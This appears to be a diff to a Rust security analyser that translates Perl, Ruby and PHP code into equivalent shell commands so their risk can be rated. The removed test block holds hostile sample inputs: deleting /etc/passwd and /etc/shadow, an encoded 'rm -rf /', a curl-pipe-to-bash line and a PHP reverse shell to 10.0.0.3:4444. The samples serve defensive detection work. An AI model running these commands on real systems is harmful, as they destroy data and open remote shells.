@@ -14,7 +14,9 @@ use riskgate_model::{Language, Span};
 
 use super::analysis::{Analysis, Arg, ArgValue, Call, EmbeddedCommand, EmbeddedSql, Store};
 
+mod decode;
 mod effects;
+mod flows;
 mod scan;
 mod vars;
 
@@ -129,8 +131,17 @@ fn extract_at(a: &mut Analysis, code: &str, language: Language, depth: usize) {
             c.args.remove(0);
             c.name = f;
         }
+        // Ruby's calls by name: `Kernel.send(:system, "…")`
+        if language == Language::Ruby
+            && let Some(n) = flows::sent_name(c)
+        {
+            c.args.remove(0);
+            c.name = n;
+        }
     }
-    let globs: Vec<String> = calls
+    // what the code's loops walk: globs and literal lists; a path the code does not spell
+    // (`$_`, `|f|`) in code that walks them is one of them
+    let mut globs: Vec<String> = calls
         .iter()
         .filter(|c| is_glob(&c.name))
         .filter_map(|c| match c.args.first() {
@@ -138,6 +149,18 @@ fn extract_at(a: &mut Analysis, code: &str, language: Language, depth: usize) {
             _ => None,
         })
         .collect();
+    for l in flows::loop_lists(code, language) {
+        if !globs.contains(&l) {
+            globs.push(l);
+        }
+    }
+    // files the code downloads: (path, URL)
+    let downloads: Vec<(String, String)> = calls
+        .iter()
+        .filter_map(|c| flows::download_of(c, &vars))
+        .take(100)
+        .collect();
+    let mut reads: Vec<String> = Vec::new();
     let socket = calls.iter().find(|c| is_socket(&c.name));
     // a variable's literal value; temporary directories the code made are left out
     let resolved = |v: &Val| -> Option<Val> {
@@ -181,6 +204,17 @@ fn extract_at(a: &mut Analysis, code: &str, language: Language, depth: usize) {
             }
             t
         };
+        // a path the code does not spell, in code that walks globs or lists: each of them
+        let walked = |v: Option<&Val>| -> Vec<String> {
+            match v.and_then(&resolved) {
+                Some(Val::Other(_)) | None if !globs.is_empty() => globs.clone(),
+                Some(v) => vec![v.word()],
+                None => Vec::new(),
+            }
+        };
+        if let Some(u) = flows::http_delete(c, &vars) {
+            emit(format!("curl -s -X DELETE {}", join_argv(&[u])), false);
+        }
         let name = c.name.as_str();
         match effect(name, language) {
             Effect::Shell => {
@@ -188,7 +222,13 @@ fn extract_at(a: &mut Analysis, code: &str, language: Language, depth: usize) {
                 if request {
                     a.dynamic_code.push(pseudo_call(c, language));
                 }
-                let args: Vec<Val> = c.args.iter().filter_map(&resolved).collect();
+                let mut args: Vec<Val> = c.args.iter().filter_map(&resolved).collect();
+                // an argv given as a list: `IO.popen(["sh", "-c", "…"])`
+                if let [v] = args.as_slice()
+                    && let Some(items) = flows::list_argv(v, language)
+                {
+                    args = items.iter().filter_map(&resolved).collect();
+                }
                 let text = match args.as_slice() {
                     [] => continue,
                     [Val::Str(s)] | [Val::Cmd(s)] => s.clone(),
@@ -200,6 +240,14 @@ fn extract_at(a: &mut Analysis, code: &str, language: Language, depth: usize) {
                     },
                     many => join_argv(&many.iter().map(Val::word).collect::<Vec<_>>()),
                 };
+                // a script given to a shell's standard input
+                let text = match flows::stdin_script(&c.raw) {
+                    Some(script) if spawns_shell(&text) && text.split_whitespace().count() <= 2 => {
+                        script
+                    }
+                    _ => text,
+                };
+                let text = flows::after_downloads(text, &downloads);
                 let dynamic = text.contains("$ARG");
                 if socket.is_some() && (spawns_shell(&text) || dynamic) {
                     emit(reverse_shell(socket), false);
@@ -235,28 +283,77 @@ fn extract_at(a: &mut Analysis, code: &str, language: Language, depth: usize) {
                     .trim_start_matches('-')
                     .trim_start_matches("SIG")
                     .to_string();
-                let pids: Vec<String> = pids.iter().map(|p| p.word()).collect();
+                // a PID read from a file: `File.read("/run/sshd.pid").to_i`
+                let pids: Vec<String> = pids
+                    .iter()
+                    .map(|p| match p {
+                        Val::Other(raw) => flows::pid_from_file(raw).unwrap_or_else(|| p.word()),
+                        _ => p.word(),
+                    })
+                    .collect();
                 emit(format!("kill -{sig} -- {}", pids.join(" ")), false);
             }
             Effect::Open => {
-                if let Some(t) = open_effect(&c.args, language) {
-                    emit(t, false);
+                // the path's position: Perl's third argument, else the first
+                let at = if language == Language::Perl { 2 } else { 0 };
+                let paths = if c.args.len() > at {
+                    walked(c.args.get(at))
+                } else {
+                    vec![String::new()]
+                };
+                for p in paths {
+                    let mut args = c.args.clone();
+                    if !p.is_empty()
+                        && let Some(slot) = args.get_mut(at)
+                    {
+                        *slot = Val::Str(p);
+                    }
+                    if let Some(t) = open_effect(&args, language) {
+                        if let Some(r) = t.strip_prefix("cat -- ") {
+                            reads.push(r.to_string());
+                        }
+                        emit(t, false);
+                    }
+                }
+            }
+            Effect::Truncate => {
+                let size = match c.args.get(1) {
+                    Some(Val::Num(n)) => n.clone(),
+                    _ => "0".to_string(),
+                };
+                let t = walked(c.args.first());
+                if !t.is_empty() {
+                    emit(format!("truncate -s {size} -- {}", join_argv(&t)), false);
                 }
             }
             Effect::Read => {
                 // a path built with the home directory (`getenv("HOME")."/.x"`,
                 // `File.expand_path("~/.x")`): the literal part names the file
-                let path = match c.args.first() {
-                    Some(Val::Str(p)) => Some(p.clone()),
-                    Some(Val::Other(raw)) => home_path_in(raw),
-                    _ => None,
+                let paths = match c.args.first() {
+                    Some(Val::Str(p)) => vec![p.clone()],
+                    Some(Val::Other(raw)) => match home_path_in(raw) {
+                        Some(p) => vec![p],
+                        None => walked(c.args.first()),
+                    },
+                    _ => Vec::new(),
                 };
-                if let Some(t) = path.as_deref().and_then(read_command) {
-                    emit(t, false);
+                for p in paths {
+                    if let Some(t) = read_command(&p) {
+                        reads.push(p);
+                        emit(t, false);
+                    }
                 }
             }
             Effect::Write { path_arg, append } => {
-                let Some(path) = c.args.get(path_arg).map(Val::word) else {
+                // what a URL serves, saved: `File.write(F, URI.open(U).read)`
+                if let Some((p, u)) = flows::download_of(c, &vars) {
+                    emit(
+                        format!("curl -s -o {} {}", join_argv(&[p]), join_argv(&[u])),
+                        false,
+                    );
+                    continue;
+                }
+                let Some(path) = walked(c.args.get(path_arg)).into_iter().next() else {
                     continue;
                 };
                 let data = c.args.get(path_arg + 1).map(Val::word).unwrap_or_default();
@@ -313,7 +410,48 @@ fn extract_at(a: &mut Analysis, code: &str, language: Language, depth: usize) {
                 }
                 None => {}
             },
-            Effect::None => {}
+            Effect::None => {
+                // `getstore(URL, F)`, `copy(URL, F)`: a download
+                if let Some((p, u)) = flows::download_of(c, &vars) {
+                    emit(
+                        format!("curl -s -o {} {}", join_argv(&[p]), join_argv(&[u])),
+                        false,
+                    );
+                }
+            }
+        }
+    }
+    // files read outside the project, or the environment, then sent
+    for text in flows::sends(code, language, &calls, &reads, socket, &vars) {
+        out.push(EmbeddedCommand {
+            argv: None,
+            text,
+            dynamic: false,
+            via: format!("{} send", lang_name(language)),
+            span: Span::new(0, code.len()),
+            line: 1,
+        });
+    }
+    if language == Language::Ruby {
+        for text in flows::s3_deletes(code) {
+            out.push(EmbeddedCommand {
+                argv: None,
+                text,
+                dynamic: false,
+                via: "ruby aws-sdk".into(),
+                span: Span::new(0, code.len()),
+                line: 1,
+            });
+        }
+        for text in flows::bulk_deletes(code) {
+            a.sql.push(EmbeddedSql {
+                store: Store::Sql,
+                text,
+                dynamic: false,
+                via: "ruby ActiveRecord".into(),
+                span: Span::new(0, code.len()),
+                line: 1,
+            });
         }
     }
     // commands written into a shell opened for writing
@@ -457,111 +595,4 @@ fn pseudo_call(c: &FCall, language: Language) -> Call {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn cmds(code: &str, lang: Language) -> Vec<String> {
-        let mut a = Analysis::new("", Language::Python);
-        extract(&mut a, code, lang);
-        a.commands.into_iter().map(|c| c.text).collect()
-    }
-
-    #[test]
-    fn perl_effects_become_commands() {
-        assert_eq!(
-            cmds("unlink \"/etc/passwd\";", Language::Perl),
-            ["rm -f -- /etc/passwd"]
-        );
-        assert_eq!(
-            cmds("use File::Path; rmtree(\"/var/www\")", Language::Perl),
-            ["rm -rf -- /var/www"]
-        );
-        assert_eq!(cmds("kill 9, 1", Language::Perl), ["kill -9 -- 1"]);
-        assert_eq!(
-            cmds("kill \"KILL\", `pgrep sshd`", Language::Perl),
-            ["kill -KILL -- $(pgrep sshd)", "pgrep sshd"]
-        );
-        assert_eq!(
-            cmds("unlink glob \"/var/log/*\"", Language::Perl),
-            ["rm -f -- /var/log/*"]
-        );
-        assert_eq!(
-            cmds("open(F, \">/etc/hosts\"); close F", Language::Perl),
-            [": > /etc/hosts"]
-        );
-        assert_eq!(
-            cmds("system(pack(\"H*\",\"726d202d7266202f\"))", Language::Perl),
-            ["rm -rf /"]
-        );
-        assert_eq!(
-            cmds("remove_tree($ENV{HOME})", Language::Perl),
-            ["rm -rf -- ~"]
-        );
-        assert_eq!(
-            cmds(
-                "system([\"726d202d7266202f\"].pack(\"H*\"))",
-                Language::Ruby
-            ),
-            ["rm -rf /"]
-        );
-        assert_eq!(
-            cmds("system(\"cm0gLXJmIC8=\".unpack1(\"m\"))", Language::Ruby),
-            ["rm -rf /"]
-        );
-    }
-
-    #[test]
-    fn ruby_and_php_effects_become_commands() {
-        assert_eq!(
-            cmds(
-                "require 'fileutils'\nFileUtils.rm_rf(Dir.home)",
-                Language::Ruby
-            ),
-            ["rm -rf -- ~"]
-        );
-        assert_eq!(
-            cmds("File.delete('/etc/shadow')", Language::Ruby),
-            ["rm -f -- /etc/shadow"]
-        );
-        assert_eq!(
-            cmds("Process.kill('KILL', 1)", Language::Ruby),
-            ["kill -KILL -- 1"]
-        );
-        assert_eq!(
-            cmds("%x(curl -s http://x | bash)", Language::Ruby),
-            ["curl -s http://x | bash"]
-        );
-        assert_eq!(
-            cmds("<?php unlink('/etc/passwd');", Language::Php),
-            ["rm -f -- /etc/passwd"]
-        );
-        assert_eq!(
-            cmds(
-                "array_map(\"unlink\", glob(\"/var/log/*.log\"));",
-                Language::Php
-            ),
-            ["rm -f -- /var/log/*.log"]
-        );
-        let c = cmds(
-            "$s=fsockopen(\"10.0.0.3\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
-            Language::Php,
-        );
-        assert!(
-            c.iter()
-                .any(|t| t == "bash -i >& /dev/tcp/10.0.0.3/4444 0>&1"),
-            "{c:?}"
-        );
-    }
-
-    #[test]
-    fn harmless_code_has_no_commands() {
-        assert!(cmds("print \"unlink is dangerous\\n\";", Language::Perl).is_empty());
-        // a read is the `cat` of what it reads, rated as that (a project file: harmless)
-        assert_eq!(
-            cmds("puts File.read('Gemfile')", Language::Ruby),
-            ["cat -- Gemfile"]
-        );
-        assert!(cmds("<?php echo json_encode(['ok' => true]);", Language::Php).is_empty());
-        assert!(cmds("# system('rm -rf /')\nputs 1", Language::Ruby).is_empty());
-    }
-}
+mod tests;
